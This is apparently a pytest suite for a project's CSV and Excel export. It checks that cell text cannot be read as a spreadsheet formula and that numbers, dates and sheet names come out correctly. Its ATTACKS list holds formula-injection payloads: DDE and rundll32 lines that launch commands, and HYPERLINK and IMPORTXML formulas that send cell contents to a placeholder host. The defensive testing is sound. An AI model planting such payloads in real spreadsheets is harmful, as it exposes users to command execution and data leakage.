"""Tables that people take away open safely, with their numbers as numbers."""

import csv
import io
from datetime import date
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from matchmaking.exports.tables import ExportTable, to_csv, to_excel

DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x")']


def _sheet(tables: list[ExportTable], name: str) -> list[Any]:
    return list(CalamineWorkbook.from_filelike(io.BytesIO(to_excel(tables))).get_sheet_by_name(name).to_python())


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_looks_like_a_formula_is_text_in_excel(text: str) -> None:
    data = to_excel([ExportTable("T", ["a"], [[text]])])
    with ZipFile(io.BytesIO(data)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    assert str(_sheet([ExportTable("T", ["a"], [[text]])], "T")[1][0]).strip() == text.strip()


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_looks_like_a_formula_gets_an_apostrophe_in_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(ExportTable("T", ["a"], [[text]])).decode("utf-8-sig"), newline="")))
    assert rows[1][0].startswith("'")
    assert rows[1][0].replace("'", "") == text


@given(st.text(min_size=1))
def test_no_text_can_begin_a_formula_in_csv(text: str) -> None:
    cells = list(csv.reader(io.StringIO(to_csv(ExportTable("T", ["a", "b"], [[text, "x"]])).decode("utf-8-sig"), newline="")))[
        1
    ]
    assert not cells[0].startswith(("=", "+", "-", "@", "\t", "\r"))


# what OWASP and others list as beginnings and tricks of formulas
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example?x="&A1,"see")',
    '=IMPORTXML(CONCAT("http://a.example?", A1:E9), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '"=1+1"',
    "'=1+1",
    '=1+1";=1+1',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
]
_BEFORE = ["", "Acme;", "Acme,", "Acme\t", "Acme\n", "Acme\r\n", 'Acme";"', 'Acme","', "Acme; ", 'Acme,"', "a;b,c;"]


def _is_formula(cell: str) -> bool:
    return cell.strip(' \t\r\n\0\u00a0\ufeff"').startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


@pytest.mark.parametrize("language", ["en", "nl", "fr"])
@pytest.mark.parametrize("before", _BEFORE)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula_whichever_separator_the_spreadsheet_takes(language: str, before: str, attack: str) -> None:
    table = ExportTable(before + attack, ["a", before + attack], [["x", before + attack], [before + attack, 2.5]])
    written = to_csv(table, language).decode("utf-8-sig")
    for separator in (",", ";", "\t"):
        for quote in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            cells = [c for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator, quoting=quote) for c in row]
            assert not [cell for cell in cells if _is_formula(cell)]


@given(st.text(st.sampled_from("=+-@;,\t\r\n\"' ax1"), max_size=30))
def test_no_text_at_all_is_a_formula_for_either_separator(text: str) -> None:
    written = to_csv(ExportTable("T", ["a", "b", "c"], [["x", text, "y"]]), "nl").decode("utf-8-sig")
    for separator in (",", ";"):
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            assert not [cell for cell in row if _is_formula(cell)]


def test_ordinary_texts_stay_as_they_are() -> None:
    texts = ["Botbrug, Gent; e-health", "a-b, c-d", "an@alfa.example; bo@beta.example", "5,3 miljoen", "C++; C#"]
    written = to_csv(ExportTable("T", ["a"], [[text] for text in texts]), "nl").decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(written, newline=""), delimiter=";")][1:] == texts


def test_numbers_and_dates_stay_numbers_and_dates() -> None:
    table = ExportTable("T", ["n", "x", "d"], [[-3, 0.25, date(2026, 11, 21)]], percent=frozenset({"x"}))
    assert _sheet([table], "T")[1] == [-3.0, 0.25, date(2026, 11, 21)]


def test_csv_suits_the_spreadsheet_of_the_language() -> None:
    table = ExportTable("T", ["a", "b"], [["x", 2.5]])
    assert to_csv(table, "nl").decode("utf-8-sig").splitlines()[1] == '"x";"2,5"'
    assert to_csv(table, "en").decode("utf-8-sig").splitlines()[1] == '"x","2.5"'


def test_sheets_get_names_that_excel_accepts() -> None:
    data = to_excel(
        [ExportTable("A/B: [x]?*", ["a"], []), ExportTable("A/B: [x]?*", ["a"], []), ExportTable("n" * 50, ["a"], [])]
    )
    names = CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names
    assert len({name.casefold() for name in names}) == 3
    assert all(len(name) <= 31 for name in names)


def test_an_empty_table_still_opens() -> None:
    assert _sheet([ExportTable("T", ["a"], [])], "T") == [["a"]]
